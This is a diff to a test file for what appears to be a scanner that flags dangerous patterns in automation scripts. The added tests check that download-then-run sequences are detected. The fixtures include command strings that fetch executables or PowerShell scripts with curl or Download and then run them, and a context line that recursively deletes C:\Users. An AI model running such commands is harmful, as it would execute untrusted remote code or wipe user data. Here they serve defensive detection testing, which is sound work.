@@ -165,6 +165,7 @@ describe('a call by another name', () => {
 // A pass whose time grows with the square of the length would not come to an end here.
 test.each([
   ['a key and blanks', `Send "{a${' '.repeat(95_000)}"`],
+  ['many downloads', Array.from({ length: 2500 }, (_, at) => `Run "curl -o a${at}.exe https://x"`).join('\n')],
 ])('a script with %s is read to its end', (_, source) => {
   expect(risksOf(source)).toEqual([]);
 });
@@ -200,5 +201,26 @@ describe('a short line that grows without end is hidden, and the rest of the scr
     expect(dangersOf(`${source}\nRun "cmd /c rd /s /q C:\\Users"`)).toEqual(
       expect.arrayContaining(['hidden-command', 'system-deletion']),
     );
+  });
+});
+
+describe('a program that is downloaded and started later', () => {
+  test.each([
+    ['by its path', 'Download "https://x.example/a", "C:\\t\\a.exe"\nRun "C:\\t\\a.exe"'],
+    ['with a blank in its name', 'Download "https://x.example/a", "C:\\t\\my a.exe"\nRun "C:\\t\\my a.exe -q"'],
+    ['with quotes', 'Download "https://x.example/a", "C:\\t\\my a.exe"\nRun \'"C:\\t\\my a.exe" /s\''],
+    ['by a variable', 'p := IniRead("a.ini", "a", "b")\nDownload "https://x.example/a", p\nRun p'],
+    ['the second of two', 'Run "cmd /c curl -o a.txt x.example & curl -o b.exe x.example"\nRun "b.exe"'],
+    ['by another program', 'Run "curl -o a.ps1 https://x.example"\nRun "powershell -File a.ps1"'],
+  ])('%s', (_, source) => {
+    expect(dangersOf(source)).toContain('download-run');
+  });
+
+  test.each([
+    ['another one', 'Download "https://x.example/a", "C:\\t\\a.exe"\nRun "notepad.exe"'],
+    ['a table', 'Download "https://x.example/a", "C:\\t\\a.csv"\nRun "C:\\t\\a.csv"'],
+    ['the one before', 'Run "C:\\t\\a.exe"\nDownload "https://x.example/a", "C:\\t\\a.exe"'],
+  ])('is not %s', (_, source) => {
+    expect(dangersOf(source)).not.toContain('download-run');
   });
 });
